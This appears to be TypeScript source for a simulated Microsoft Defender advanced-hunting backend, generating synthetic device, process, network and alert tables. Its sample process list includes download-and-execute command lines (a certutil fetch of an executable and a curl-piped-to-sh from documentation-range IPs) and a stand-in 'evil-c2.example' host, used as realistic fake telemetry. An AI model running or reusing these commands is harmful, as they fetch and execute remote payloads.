/**
 * Advanced-hunting tables, generated lazily (first query) from the store: DeviceInfo,
 * DeviceNetworkEvents, DeviceProcessEvents (huntingRows each), AlertInfo and AlertEvidence
 * (derived from the alerts, rebuilt when alerts change).
 */
import { hex, int, mulberry32, pick } from './generator';
import { iso7, timeMs } from './model';
import type { DefenderStore } from './store';

export type KqlType = 'DateTime' | 'String' | 'Int32' | 'Int64' | 'Double' | 'Boolean' | 'Dynamic' | 'Guid';
export interface Column {
	name: string;
	type: KqlType;
}
export interface Table {
	columns: Column[];
	rows: Record<string, unknown>[];
}

const c = (name: string, type: KqlType): Column => ({ name, type });

const SCHEMAS: Record<string, Column[]> = {
	DeviceInfo: [
		c('Timestamp', 'DateTime'),
		c('DeviceId', 'String'),
		c('DeviceName', 'String'),
		c('OSPlatform', 'String'),
		c('OSVersion', 'String'),
		c('OSBuild', 'Int64'),
		c('OSArchitecture', 'String'),
		c('PublicIP', 'String'),
		c('MachineGroup', 'String'),
		c('IsAzureADJoined', 'Boolean'),
		c('AadDeviceId', 'String'),
		c('OnboardingStatus', 'String'),
		c('SensorHealthState', 'String'),
		c('ExposureLevel', 'String'),
		c('DeviceType', 'String'),
		c('ReportId', 'Int64'),
	],
	DeviceNetworkEvents: [
		c('Timestamp', 'DateTime'),
		c('DeviceId', 'String'),
		c('DeviceName', 'String'),
		c('ActionType', 'String'),
		c('RemoteIP', 'String'),
		c('RemotePort', 'Int32'),
		c('RemoteUrl', 'String'),
		c('LocalIP', 'String'),
		c('LocalPort', 'Int32'),
		c('Protocol', 'String'),
		c('InitiatingProcessFileName', 'String'),
		c('InitiatingProcessCommandLine', 'String'),
		c('InitiatingProcessAccountName', 'String'),
		c('ReportId', 'Int64'),
	],
	DeviceProcessEvents: [
		c('Timestamp', 'DateTime'),
		c('DeviceId', 'String'),
		c('DeviceName', 'String'),
		c('ActionType', 'String'),
		c('FileName', 'String'),
		c('FolderPath', 'String'),
		c('SHA1', 'String'),
		c('SHA256', 'String'),
		c('ProcessId', 'Int64'),
		c('ProcessCommandLine', 'String'),
		c('AccountName', 'String'),
		c('AccountDomain', 'String'),
		c('InitiatingProcessFileName', 'String'),
		c('InitiatingProcessCommandLine', 'String'),
		c('InitiatingProcessId', 'Int64'),
		c('ReportId', 'Int64'),
	],
	AlertInfo: [
		c('Timestamp', 'DateTime'),
		c('AlertId', 'String'),
		c('Title', 'String'),
		c('Category', 'String'),
		c('Severity', 'String'),
		c('ServiceSource', 'String'),
		c('DetectionSource', 'String'),
		c('AttackTechniques', 'String'),
	],
	AlertEvidence: [
		c('Timestamp', 'DateTime'),
		c('AlertId', 'String'),
		c('Title', 'String'),
		c('Categories', 'String'),
		c('AttackTechniques', 'String'),
		c('ServiceSource', 'String'),
		c('DetectionSource', 'String'),
		c('EntityType', 'String'),
		c('EvidenceRole', 'String'),
		c('FileName', 'String'),
		c('SHA1', 'String'),
		c('RemoteIP', 'String'),
		c('AccountName', 'String'),
		c('DeviceId', 'String'),
		c('DeviceName', 'String'),
	],
};

export const TABLE_NAMES = Object.keys(SCHEMAS);

const PROCS = [
	['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File update.ps1'],
	['cmd.exe', 'C:\\Windows\\System32', 'cmd.exe /c whoami /all'],
	['rundll32.exe', 'C:\\Windows\\System32', 'rundll32.exe shell32.dll,Control_RunDLL'],
	['chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe --type=renderer'],
	['msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'msedge.exe --single-argument https://contoso.com'],
	['svchost.exe', 'C:\\Windows\\System32', 'svchost.exe -k netsvcs -p'],
	['certutil.exe', 'C:\\Windows\\System32', 'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe'],
	['bash', '/usr/bin', 'bash -c "curl -s http://198.51.100.9/i.sh | sh"'],
];
const URLS = ['login.microsoftonline.com', 'contoso.sharepoint.com', 'evil-c2.example', 'update.example.org', 'cdn.example.net', ''];

const SEV_MAP: Record<string, string> = { UnSpecified: 'Unknown', Informational: 'Informational', Low: 'Low', Medium: 'Medium', High: 'High' };
const DET_SRC: Record<string, string> = {
	WindowsDefenderAv: 'Antivirus',
	WindowsDefenderAtp: 'EDR',
	CustomerTI: 'Custom TI',
	CustomDetection: 'Custom detection',
	AutomatedInvestigation: 'Automated investigation',
	WindowsDefenderSmartScreen: 'SmartScreen',
};

function deviceTables(store: DefenderStore): Record<string, Table> {
	const rng = mulberry32(store.opts.seed * 7919 + 17);
	const now = store.now();
	const span = Math.min(store.opts.dataSpanMs, 30 * 86400000);
	const machines = store.machines;
	const out: Record<string, Table> = {};
	// DeviceInfo: one row per machine per day (≤ 30 days).
	const info: Record<string, unknown>[] = [];
	const days = Math.max(1, Math.floor(span / 86400000));
	let report = 1000;
	for (const m of machines) {
		for (let d = days - 1; d >= 0; d--) {
			info.push({
				Timestamp: iso7(now - d * 86400000 - int(rng, 0, 3600000), int(rng, 0, 9999)),
				DeviceId: m.id,
				DeviceName: m.computerDnsName,
				OSPlatform: m.osPlatform,
				OSVersion: m.version,
				OSBuild: m.osBuild ?? 0,
				OSArchitecture: m.osArchitecture,
				PublicIP: m.lastExternalIpAddress,
				MachineGroup: m.rbacGroupName,
				IsAzureADJoined: m.isAadJoined,
				AadDeviceId: m.aadDeviceId ?? '',
				OnboardingStatus: m.onboardingStatus,
				SensorHealthState: m.healthStatus,
				ExposureLevel: m.exposureLevel,
				DeviceType: m.osPlatform.startsWith('WindowsServer') ? 'Server' : 'Workstation',
				ReportId: report++,
			});
		}
	}
	out.DeviceInfo = { columns: SCHEMAS.DeviceInfo, rows: info };
	const n = store.opts.huntingRows;
	const net: Record<string, unknown>[] = [];
	const proc: Record<string, unknown>[] = [];
	if (machines.length) {
		for (let i = 0; i < n; i++) {
			const m = machines[int(rng, 0, machines.length - 1)];
			const t = iso7(now - span + Math.floor(((i + rng()) * span) / n), int(rng, 0, 9999));
			const [fn, , cmd] = pick(rng, PROCS);
			const url = pick(rng, URLS);
			net.push({
				Timestamp: t,
				DeviceId: m.id,
				DeviceName: m.computerDnsName,
				ActionType: pick(rng, ['ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted']),
				RemoteIP: url === 'evil-c2.example' ? '198.51.100.7' : `20.${int(rng, 0, 255)}.${int(rng, 0, 255)}.${int(rng, 1, 254)}`,
				RemotePort: pick(rng, [443, 443, 443, 80, 445, 3389, 8080]),
				RemoteUrl: url,
				LocalIP: m.lastIpAddress,
				LocalPort: int(rng, 49152, 65535),
				Protocol: 'Tcp',
				InitiatingProcessFileName: fn,
				InitiatingProcessCommandLine: cmd,
				InitiatingProcessAccountName: m.users[0]?.accountName ?? 'system',
				ReportId: report++,
			});
			const [pfn, folder, pcmd] = pick(rng, PROCS);
			const u = m.users[int(rng, 0, Math.max(0, m.users.length - 1))];
			proc.push({
				Timestamp: iso7(now - span + Math.floor(((i + rng()) * span) / n), int(rng, 0, 9999)),
				DeviceId: m.id,
				DeviceName: m.computerDnsName,
				ActionType: 'ProcessCreated',
				FileName: pfn,
				FolderPath: `${folder}\\${pfn}`,
				SHA1: hex(rng, 40),
				SHA256: hex(rng, 64),
				ProcessId: int(rng, 100, 30000),
				ProcessCommandLine: pcmd,
				AccountName: u?.accountName ?? 'system',
				AccountDomain: u?.accountDomain ?? 'NT AUTHORITY',
				InitiatingProcessFileName: pick(rng, ['explorer.exe', 'cmd.exe', 'services.exe', 'winword.exe']),
				InitiatingProcessCommandLine: 'explorer.exe',
				InitiatingProcessId: int(rng, 100, 30000),
				ReportId: report++,
			});
		}
	}
	out.DeviceNetworkEvents = { columns: SCHEMAS.DeviceNetworkEvents, rows: net };
	out.DeviceProcessEvents = { columns: SCHEMAS.DeviceProcessEvents, rows: proc };
	return out;
}

function alertTables(store: DefenderStore): Record<string, Table> {
	const info: Record<string, unknown>[] = [];
	const ev: Record<string, unknown>[] = [];
	const cutoff = iso7(store.now() - 30 * 86400000);
	for (const a of store.alerts) {
		if (a.alertCreationTime < cutoff) continue;
		const tech = JSON.stringify(a.mitreTechniques);
		const src = DET_SRC[a.detectionSource] ?? 'EDR';
		info.push({
			Timestamp: a.alertCreationTime,
			AlertId: a.id,
			Title: a.title,
			Category: a.category,
			Severity: SEV_MAP[a.severity] ?? a.severity,
			ServiceSource: 'Microsoft Defender for Endpoint',
			DetectionSource: src,
			AttackTechniques: tech,
		});
		const base = {
			Timestamp: a.alertCreationTime,
			AlertId: a.id,
			Title: a.title,
			Categories: JSON.stringify([a.category]),
			AttackTechniques: tech,
			ServiceSource: 'Microsoft Defender for Endpoint',
			DetectionSource: src,
			DeviceId: a.machineId,
			DeviceName: a.computerDnsName,
			FileName: '',
			SHA1: '',
			RemoteIP: '',
			AccountName: '',
		};
		ev.push({ ...base, EntityType: 'Machine', EvidenceRole: 'Impacted' });
		const r = mulberry32(a.evSeed);
		ev.push({ ...base, EntityType: 'File', EvidenceRole: 'Related', FileName: pick(r, PROCS)[0], SHA1: hex(r, 40) });
		if (a.relatedUser) ev.push({ ...base, EntityType: 'User', EvidenceRole: 'Impacted', AccountName: a.relatedUser.userName });
	}
	return {
		AlertInfo: { columns: SCHEMAS.AlertInfo, rows: info },
		AlertEvidence: { columns: SCHEMAS.AlertEvidence, rows: ev },
	};
}

const deviceCache = new WeakMap<DefenderStore, { machines: number; day: number; tables: Record<string, Table> }>();
const alertCache = new WeakMap<DefenderStore, { version: number; day: number; tables: Record<string, Table> }>();

/** The named table (case-sensitive, as in KQL), or undefined. */
export function huntingTable(store: DefenderStore, name: string): Table | undefined {
	if (!(name in SCHEMAS)) return undefined;
	if (name === 'AlertInfo' || name === 'AlertEvidence') {
		const day = Math.floor(store.now() / 86400000);
		let c = alertCache.get(store);
		if (!c || c.version !== store.version || c.day !== day) {
			c = { version: store.version, day, tables: alertTables(store) };
			alertCache.set(store, c);
		}
		return c.tables[name];
	}
	// Rebuilt when machines are added or the clock moves to another day, so ago() keeps finding rows.
	const day = Math.floor(store.now() / 86400000);
	let d = deviceCache.get(store);
	if (!d || d.machines !== store.machines.length || d.day !== day) {
		d = { machines: store.machines.length, day, tables: deviceTables(store) };
		deviceCache.set(store, d);
	}
	return d.tables[name];
}

export { timeMs };
